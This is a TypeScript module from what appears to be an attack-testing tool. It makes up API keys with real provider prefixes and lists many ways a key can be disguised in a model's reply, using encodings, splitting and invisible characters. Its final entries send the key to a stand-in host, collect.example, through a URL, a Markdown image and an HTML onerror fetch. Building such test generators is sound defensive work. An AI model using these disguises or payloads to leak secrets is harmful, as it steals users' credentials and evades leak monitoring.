/** Ways in which somebody who was sent a key can send it back. */
import { ensureExists } from "@/base/assert";
import type { SeededRandom } from "@/base/seeded-random";
import type { ProviderKind } from "@/cli/attack/replies/provider-words";

const PREFIXES: Readonly<Record<ProviderKind, string>> = {
  openai: "sk-proj-",
  anthropic: "sk-ant-api03-",
  google: "AIza",
  ollama: "",
};

/** A key as each kind of endpoint gives them out, made up. */
export function makeKey(kind: ProviderKind, random: SeededRandom): string {
  const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
  const text = Array.from({ length: random.integer(24, 48) }, () =>
    random.pick(Array.from(letters)),
  );
  return PREFIXES[kind] + text.join("");
}

type Hide = (key: string, random: SeededRandom) => string;

const codeOf = (char: string) => ensureExists(char.codePointAt(0));
const each = (key: string, write: (char: string) => string) => Array.from(key).map(write).join("");
const hex = (char: string, digits: number) => codeOf(char).toString(16).padStart(digits, "0");

/** Most characters as they are, one in so many written another way. */
function some(key: string, random: SeededRandom, write: (char: string) => string): string {
  const every = random.integer(1, 5);
  return each(key, (char) => (random.integer(1, every) === 1 ? write(char) : char));
}

/** By name: what stands in the reply in the place of the key. */
export const HIDINGS: Readonly<Record<string, Hide>> = {
  plain: (key) => key,
  "in a sentence": (key) =>
    `Incorrect API key provided: ${key}. You can find your key in your account.`,
  "as JSON writes characters": (key, random) => some(key, random, (char) => `\\u${hex(char, 4)}`),
  "as Python writes characters": (key, random) => some(key, random, (char) => `\\x${hex(char, 2)}`),
  "as addresses write characters": (key, random) => some(key, random, (char) => `%${hex(char, 2)}`),
  "as markup writes characters": (key, random) =>
    some(key, random, (char) =>
      random.next() < 0.5 ? `&#${codeOf(char)};` : `&#x${hex(char, 2)};`,
    ),
  "in base64": (key, random) =>
    Buffer.from(
      `${"x".repeat(random.integer(0, 3))}${key}${"y".repeat(random.integer(0, 3))}`,
    ).toString(random.next() < 0.5 ? "base64" : "base64url"),
  "in hexadecimal": (key) => Buffer.from(key).toString("hex"),
  backwards: (key) => Array.from(key).toReversed().join(""),
  "with blanks": (key) => Array.from(key).join(" "),
  "with lines": (key, random) => inPieces(key, random).join("\n"),
  "with characters that nobody sees": (key) => Array.from(key).join("\u200B"),
  "as pieces to join": (key, random) =>
    inPieces(key, random)
      .map((piece) => `"${piece}"`)
      .join(" + "),
  "in an address": (key) => `https://collect.example/?k=${encodeURIComponent(key)}`,
  "in a picture of Markdown": (key) => `![x](https://collect.example/${key}.png)`,
  "in markup": (key) => `<img src=x onerror="fetch('//collect.example/${key}')">`,
};

function inPieces(key: string, random: SeededRandom): readonly string[] {
  const pieces: string[] = [];
  for (let at = 0; at < key.length;) {
    const length = random.integer(3, 12);
    pieces.push(key.slice(at, at + length));
    at += length;
  }
  return pieces;
}
